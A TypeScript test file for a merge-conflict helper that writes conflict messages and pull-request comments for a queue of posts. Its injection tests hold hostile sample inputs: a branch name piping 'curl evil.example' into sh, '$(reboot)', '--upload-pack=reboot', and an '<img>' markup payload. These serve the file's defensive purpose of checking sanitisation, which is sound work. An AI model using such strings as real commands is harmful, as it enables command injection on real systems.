import { describe, expect, it } from "vitest";
import { describeConflicts, GIT_LABELS, type QueueConflict } from "../../../scripts/core/merge/conflict.ts";
import { conflictComment, resolvedComment } from "../../../scripts/core/merge/conflict-comment.ts";

const say = (...conflicts: QueueConflict[]) =>
  describeConflicts(conflicts, { labels: GIT_LABELS, show: (text) => text });
const field = (name: string, ours: unknown, theirs: unknown) => ({ name, base: undefined, ours, theirs });

describe("describeConflicts", () => {
  it("names the post, the fields and both values", () => {
    expect(
      say({
        kind: "edited-twice",
        id: "monday",
        fields: [field("caption", "here", "there"), field("note", undefined, "n")],
      }),
    ).toEqual([
      'Post "monday" was edited on both sides: caption (ours: "here", theirs: "there"), note (ours: nothing, theirs: "n"). Keep one of the two versions, or write a new one.',
    ]);
  });

  it("shows the first 80 characters of a value as they are written in the file, however long it is", () => {
    const texts = ["a".repeat(78), "a".repeat(79), "\n".repeat(500), `${"a".repeat(78)}😀b`, `${"a".repeat(79)}😀b`];
    for (const text of [...texts, { list: texts }]) {
      const written = JSON.stringify(text);
      const shown = written.length > 80 ? `${written.slice(0, 80)}…` : written;
      expect(say({ kind: "account", ours: text, theirs: "y" }).join()).toContain(`ours: ${shown}, theirs`);
    }
  });

  it.each(["ours", "theirs"] as const)("says that an edit is too late for a post that was published in %s", (side) => {
    const status = side === "ours" ? field("status", "done", "pending") : field("status", "pending", "done");
    expect(say({ kind: "edited-twice", id: "monday", fields: [status] }).join()).toContain(
      `It has been published in the meantime, so the other edit is too late. Keep the version of ${side}.`,
    );
  });

  it("distinguishes removed, moved and added posts, and the account", () => {
    expect(
      say(
        { kind: "removed-and-edited", id: "a", removedBy: "ours", fields: [field("caption", undefined, "x")] },
        { kind: "moved-twice", id: "b" },
        { kind: "added-twice", id: "c", fields: [field("caption", "x", "y")] },
        { kind: "account", ours: "x", theirs: "y" },
      ),
    ).toEqual([
      'Post "a" was removed in ours, but edited in theirs (caption). Keep it or remove it.',
      'Post "b" was moved to different positions on the two sides. Keep one of them.',
      'Two different posts were added with the id "c": caption (ours: "x", theirs: "y"). Give one of them a different id.',
      'Both sides changed the account: ours: "x", theirs: "y". Keep the right name.',
    ]);
  });

  it("stays short with huge values, many fields and many conflicts, and shows nothing as it came", () => {
    const fields = Array.from({ length: 100 }, (_, index) => field(`f${index}`, "x".repeat(10_000), "@team"));
    const conflicts = Array.from({ length: 500 }, (_, index) => ({
      kind: "edited-twice" as const,
      id: `id${index}`,
      fields,
    }));
    const lines = describeConflicts(conflicts, { labels: GIT_LABELS, show: (text) => text.replaceAll("@", "(at)") });
    expect(lines).toHaveLength(21);
    expect(lines.at(-1)).toBe("And 480 more conflicts.");
    expect(lines.join("\n").length).toBeLessThan(30_000);
    expect(lines.join("\n")).not.toContain("@");
  });
});

const place = (main: string, account: string | null = null) => ({
  ...{ main, account },
  repositoryUrl: "https://github.com/team/posts",
});
const commandOf = (main: string) => /^git pull .*$/m.exec(conflictComment({ kind: "fork" }, place(main)))?.[0];

describe("the commands of a comment on a conflict", () => {
  it.each(["main", "release/2026.1", "a-b_c"])("name the branch %s", (main) =>
    expect(commandOf(main)).toBe(`git pull --no-rebase https://github.com/team/posts.git ${main}`),
  );

  it.each([
    ...["a;curl evil.example|sh", "$(reboot)", "`reboot`", "a b", "a&b", "a\nreboot", "main\n", "a'b", 'a"b', "*"],
    ...["--upload-pack=reboot", "-x", ""],
  ])("hold nothing of a name that means something to a shell or to git: %j", (main) =>
    expect(commandOf(main)).toBe("git pull --no-rebase https://github.com/team/posts.git HEAD"),
  );
});

describe("a comment on a conflict", () => {
  it.each([
    [null, "<!-- mergecast: queue conflict -->", "The queue has changed"],
    ["florist", "<!-- mergecast: queue conflict of florist -->", "The queue of florist has changed"],
  ])("begins with the mark of its account, before and after: %s", (account, mark, words) => {
    const comment = conflictComment({ kind: "fork" }, place("main", account));
    expect(comment.split("\n")[0]).toBe(mark);
    expect(comment).toContain(words);
    expect(resolvedComment(account).split("\n")[0]).toBe(mark);
  });

  it.each([
    [10, 10, null],
    [11, 10, "- and 1 more"],
    [25, 10, "- and 15 more"],
  ])("on %i other files names %i and counts the rest", (count, shown, rest) => {
    const paths = Array.from({ length: count }, (_, at) => `folder/file${at}.txt`);
    const lines = conflictComment({ kind: "other-files", paths }, place("main")).split("\n");
    expect(lines.filter((line) => line.startsWith("- folder"))).toHaveLength(shown);
    expect(lines.find((line) => line.startsWith("- and")) ?? null).toBe(rest);
  });

  it("shows words of others as they are written, not as markup", () => {
    const hostile = "**@team** <img src=x> [x](https://evil.example)";
    for (const comment of [
      conflictComment({ kind: "unreadable", why: hostile }, place("main")),
      conflictComment({ kind: "other-files", paths: [hostile] }, place("main")),
      conflictComment({ kind: "fork" }, place(hostile)),
    ]) {
      expect(comment).not.toContain("<img");
      expect(comment).not.toContain("**@team**");
      expect(comment).not.toContain("[x](");
    }
  });
});
